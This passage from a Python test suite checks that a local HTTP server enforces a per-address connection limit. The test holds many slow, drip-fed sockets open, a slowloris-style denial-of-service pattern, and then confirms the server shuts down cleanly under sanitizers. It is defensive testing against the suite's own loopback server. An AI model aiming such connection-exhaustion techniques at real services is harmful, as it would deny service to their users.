        self.addCleanup(srv.stop)
        socks = self.slow_sockets(limit + 10, srv.port)
        self.addCleanup(lambda: [s.close() for s in socks])
        self.assertEqual(len(socks), limit + 10, "the sockets connected")
        # Wait until the server has accepted them all and closed the extras.
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and self.open_count(socks) > limit:
            time.sleep(0.1)
        time.sleep(0.3)
        self.assertEqual(self.open_count(socks), limit, "the server keeps exactly the limit open")
        stop = threading.Event()
        t = threading.Thread(target=self.drip, args=(socks, 5, stop))
        t.start()
        try:
            # 127.0.0.1 is at its limit: a new request from it is refused.
            statuses = []
            for _ in range(3):
                try:
                    st, _, _ = raw_request(srv.port, b"GET /search?q=refund HTTP/1.1\r\n"
                                           b"Host: x\r\nConnection: close\r\n\r\n", timeout=3)
                    statuses.append(st)
                except OSError as e:
                    statuses.append(type(e).__name__)
            self.assertTrue(all(st is None or st == 503 or isinstance(st, str) for st in statuses),
                            "requests over the per-address limit are refused: %r (%d held open)"
                            % (statuses, self.open_count(socks)))
            # Another address is served, quickly.
            for _ in range(5):
                t0 = time.monotonic()
                st, _, body = raw_request(srv.port, b"GET /search?q=refund HTTP/1.1\r\n"
                                          b"Host: x\r\nConnection: close\r\n\r\n",
                                          source="127.0.0.2", timeout=5)
                self.assertEqual(st, 200, "127.0.0.2 is served while 127.0.0.1 is at its limit")
                self.assertLess(time.monotonic() - t0, 2.0)
        finally:
            stop.set()
            t.join()
        for s in socks:
            s.close()
        # Once the slow sockets are gone, 127.0.0.1 is served again.
        deadline = time.monotonic() + 5
        st = None
        while time.monotonic() < deadline:
            try:
                st, _, _ = srv.get("/search?q=refund")
                if st == 200:
                    break
            except OSError:
                pass
            time.sleep(0.2)
        self.assertEqual(st, 200, "127.0.0.1 is served again after its connections close")
        self.assertEqual(srv.stop(), 0, "clean exit:\n" + srv.output()[-3000:])


class ZZServerSurvived(unittest.TestCase):
    """Runs after Attacks (unittest orders classes by name): the server
    that took every attack above stops cleanly, with no sanitizer report
    in its output (the suite also runs in the ASan/UBSan build)."""

    def test_server_exits_cleanly_after_the_attacks(self):
        srv = Attacks.server
        self.assertIsNone(srv.proc.poll(), "the server is still running after the attacks")
        rc = srv.stop()
        out = srv.output()
        self.assertEqual(rc, 0, "exit status after SIGTERM; output:\n" + out[-3000:])
        for bad in ("ERROR: AddressSanitizer", "runtime error:", "LeakSanitizer"):
            self.assertNotIn(bad, out)


def _walk(o, key=""):
    """(key, string value) pairs of a JSON document, depth first."""
    if isinstance(o, dict):
        for k, v in o.items():
            yield from _walk(v, k)
    elif isinstance(o, list):
        for v in o:
            yield from _walk(v, key)
    elif isinstance(o, str):
        yield key, o


if __name__ == "__main__":
    e2e.main()
